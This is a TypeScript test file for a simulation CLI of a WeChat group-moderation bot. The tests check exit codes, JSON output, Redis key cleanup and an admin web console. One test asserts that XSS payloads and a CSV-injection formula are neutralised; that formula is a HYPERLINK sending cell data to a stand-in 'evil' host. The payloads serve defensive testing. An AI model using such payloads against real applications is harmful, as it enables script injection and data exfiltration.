import { spawn } from 'node:child_process'
import { resolve } from 'node:path'
import IORedis from 'ioredis'
import { runSimCli } from '../../scripts/sim-cli'
import { freePort } from '../../src/net/free-port'
import { deleteKeysWithPrefix } from '../../src/store/delete-prefix'
import { parseCsv } from '../helpers/csv'
import { runCli } from '../helpers/run-cli'
import { REDIS_URL } from '../helpers/scenario'

/**
 * `npm run sim -- FILE.yaml` as an operator runs it: a child process with the real bot on the
 * simulated WeChat and the real Redis. Checks the contract of spec/simulation.md: exit status,
 * stdout holding only JSON lines, a summary last, and no Redis keys left behind.
 * A child process costs seconds of start-up, so one failing and one passing run show what only
 * a process can (its exit status, its streams); the other refusals call the same function
 * (scripts/sim-cli.ts) in-process and check the status it returns and what it writes.
 */

const scenario = (name: string) => `test/fixtures/scenarios/${name}`

/** this file's runs get their own base prefix, so other tests' keys never count */
const RUN_PREFIX = `qunhq-clitest-${process.pid}-${Date.now()}`

const simEnv = { ...process.env, REDIS_URL, LOG_LEVEL: 'warn', QUNHQ_PREFIX: RUN_PREFIX }
const runSim = (args: string[]) => runCli('scripts/sim.ts', args, { env: simEnv })

/** scripts/sim-cli.ts in this process: the status it returns and what it writes */
async function runSimHere(args: string[]): Promise<{ status: number; stdout: string; stderr: string }> {
  let stdout = ''
  let stderr = ''
  const status = await runSimCli(args, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env: simEnv })
  return { status, stdout, stderr }
}

/** How many keys this file's scenario runs hold right now (SCAN, never KEYS). */
async function countSimKeys(): Promise<number> {
  const redis = new IORedis(REDIS_URL, { maxRetriesPerRequest: 3 })
  try {
    let count = 0
    let cursor = '0'
    do {
      const [next, batch] = await redis.scan(cursor, 'MATCH', `${RUN_PREFIX}*`, 'COUNT', 1000)
      cursor = next
      count += batch.length
    } while (cursor !== '0')
    return count
  } finally {
    redis.disconnect()
  }
}

describe('npm run sim (scripts/sim.ts)', () => {
  it('an invalid scenario exits 2 and stderr names the field', async () => {
    const { status, stdout, stderr } = await runSim([scenario('invalid-room.yaml')])
    expect(status).toBe(2)
    expect(stderr).toMatch(/steps\[0\]\.say\.room: no such room "nope@chatroom"/)
    expect(stderr).not.toMatch(/\n\s+at .*\.ts:\d+/) // a message, not a stack trace
    expect(stdout).toBe('')
  })

  it('an invalid config block exits 2 and names config.<path>', async () => {
    const { status, stderr } = await runSimHere([scenario('invalid-config.yaml')])
    expect(status).toBe(2)
    expect(stderr).toMatch(/config\.outbound\.minIntervalMs: /)
  })

  it('a missing file exits 2 and names the file', async () => {
    const { status, stdout, stderr } = await runSimHere([scenario('no-such-scenario.yaml')])
    expect(status).toBe(2)
    expect(stderr).toContain('no-such-scenario.yaml')
    expect(stderr).toMatch(/file not found/)
    expect(stdout).toBe('')
  })

  it('no file at all exits 2 with the usage', async () => {
    const { status, stderr } = await runSimHere([])
    expect(status).toBe(2)
    expect(stderr).toMatch(/usage/)
  })

  it('a valid tiny scenario exits 0, prints only JSON lines ending in a summary, and leaves no keys behind', async () => {
    const keysBefore = await countSimKeys()
    const { status, stdout, stderr } = await runSim([scenario('tiny.yaml')])
    expect({ status, stderr: status === 0 ? '' : stderr }).toEqual({ status: 0, stderr: '' })

    expect(stdout.endsWith('\n')).toBe(true)
    const lines = stdout.slice(0, -1).split('\n')
    const parsed = lines.map((line, i) => {
      try {
        return JSON.parse(line) as Record<string, unknown>
      } catch {
        throw new Error(`stdout line ${i + 1} is not JSON: ${line}`)
      }
    })
    for (const line of parsed) {
      expect(typeof line.t).toBe('number')
      expect(typeof line.type).toBe('string')
    }
    const summary = parsed.at(-1)
    expect(summary).toMatchObject({ type: 'summary', steps: 2 })
    // the summary counts the action lines before it, and is the only summary
    expect(summary?.actions).toBe(parsed.length - 1)
    expect(parsed.filter((l) => l.type === 'summary')).toHaveLength(1)
    expect(typeof summary?.durationMs).toBe('number')
    // transcript times run forward
    const times = parsed.map((l) => l.t as number)
    expect([...times].sort((a, b) => a - b)).toEqual(times)

    expect(keysBefore).toBe(0)
    expect(await countSimKeys()).toBe(0)
  })

  it('a bad HTTP_PORT or a short ADMIN_TOKEN exits 2 naming the variable', async () => {
    for (const [name, value] of [['HTTP_PORT', 'eighty'], ['ADMIN_TOKEN', 'guessme']] as const) {
      let stderr = ''
      const status = await runSimCli([scenario('tiny.yaml')], { stdout: () => {}, stderr: (t) => (stderr += t), env: { ...simEnv, HTTP_PORT: '8080', [name]: value } })
      expect([name, status]).toEqual([name, 2])
      expect(stderr).toContain(`env.${name}:`)
      expect(stderr).not.toContain('guessme')
    }
  })

  it('Ctrl-C before the end of the scenario stops it with 130 and says so; no keys are left', async () => {
    const stop = new AbortController()
    let stderr = ''
    const status = await runSimCli([scenario('long-wait.yaml')], {
      stdout: () => {},
      stderr: (t) => {
        stderr += t
        // the bot is up (its console line): Ctrl-C now, before the scenario's end
        if (t.startsWith('console: ')) stop.abort()
      },
      // in this process: its logger writes to the test's stderr
      env: { ...simEnv, LOG_LEVEL: 'error', HTTP_PORT: String(await freePort()) },
      signal: stop.signal,
    })
    expect(status).toBe(130)
    expect(stderr).toMatch(/stopped before the end of the scenario \([012] of 3 steps ran\)/)
    expect(await countSimKeys()).toBe(0)
  })

  it('with HTTP_PORT serves the console for the run, prints the admin sign-in link on stderr, keeps serving in the final wait, and stops on Ctrl-C leaving no keys', async () => {
    const port = await freePort()
    const child = spawn(process.execPath, ['--import', 'tsx', 'scripts/sim.ts', scenario('console-rehearsal.yaml')], {
      cwd: resolve(__dirname, '..', '..'),
      env: { ...simEnv, HTTP_PORT: String(port) },
      stdio: ['ignore', 'pipe', 'pipe'],
    })
    let stderr = ''
    let stdout = ''
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d))
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d))
    const exited = new Promise<number | null>((done) => child.on('close', (code) => done(code)))
    /** waits for the work (a line on a stream, a page that shows it), never for the clock alone */
    const until = async <T>(what: string, check: () => Promise<T | undefined> | T | undefined, ms = 240_000): Promise<T> => {
      const end = Date.now() + ms
      for (;;) {
        const found = await check()
        if (found !== undefined) return found
        if (Date.now() > end || child.exitCode !== null) throw new Error(`no ${what} (exit ${child.exitCode}); stderr:\n${stderr}`)
        await new Promise((r) => setTimeout(r, 50))
      }
    }
    try {
      const link = await until('console line on stderr', () => /^console: (http:\/\/127\.0\.0\.1:(\d+)\/login\/\S+)$/m.exec(stderr) ?? undefined)
      expect(Number(link[2])).toBe(port)
      const signIn = await fetch(link[1]!, { redirect: 'manual' })
      expect(signIn.status).toBe(303)
      const cookie = /qunhq_session=[^;]+/.exec(signIn.headers.get('set-cookie') ?? '')![0]
      const base = `http://127.0.0.1:${port}`
      const get = (path: string) => fetch(base + path, { headers: { cookie, accept: 'text/html' } })

      // the removal reaches the rules page: markup shown as text, never as markup
      const rules = await until('the removal on /rules', async () => {
        const html = await (await get('/rules')).text()
        return html.includes('R1') ? html : undefined
      })
      expect(rules).not.toContain('<script>alert(1)</script>')
      expect(rules).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
      expect(rules).not.toContain('<b>小号</b>')
      const groups = await (await get('/groups')).text()
      // a group name's markup is cleaned away wherever the bot repeats a name (cleanShown), and
      // what is left is escaped: neither the tag nor its attribute reaches the page
      expect(groups).not.toContain('<img src=x')
      expect(groups).not.toContain('onerror')
      expect(groups).toContain('>北京1群</a>')

      // the export holds the member's formula as text
      const csv = parseCsv((await (await get('/export/cases.csv')).text()).replace(/^\ufeff/, ''))
      const texts = csv.flat()
      expect(texts.filter((c) => /^[\s]*[=+\-@]/.test(c))).toEqual([])
      expect(texts).toContain(`'=HYPERLINK("http://evil/?"&A1,"点我") <script>alert(1)</script> 招兼职刷单，日结三百`)

      // still serving: the scenario's last step waits; Ctrl-C ends it cleanly
      await until('the final wait', () => (stderr.includes('console: serving for the final wait (600 s)') ? true : undefined))
      expect(child.exitCode).toBeNull()
      expect((await get('/groups')).status).toBe(200)
      child.kill('SIGINT')
      expect(await exited).toBe(0)
    } finally {
      if (child.exitCode === null) {
        child.kill('SIGKILL')
        await exited
        // a killed run cannot remove its keys: this file's prefix does
        await deleteKeysWithPrefix(REDIS_URL, RUN_PREFIX)
      }
    }
    // the transcript is still JSON lines ending in the summary
    const last = JSON.parse(stdout.trim().split('\n').at(-1)!) as { type: string }
    expect(last.type).toBe('summary')
    expect(await countSimKeys()).toBe(0)
  }, 300_000)
})
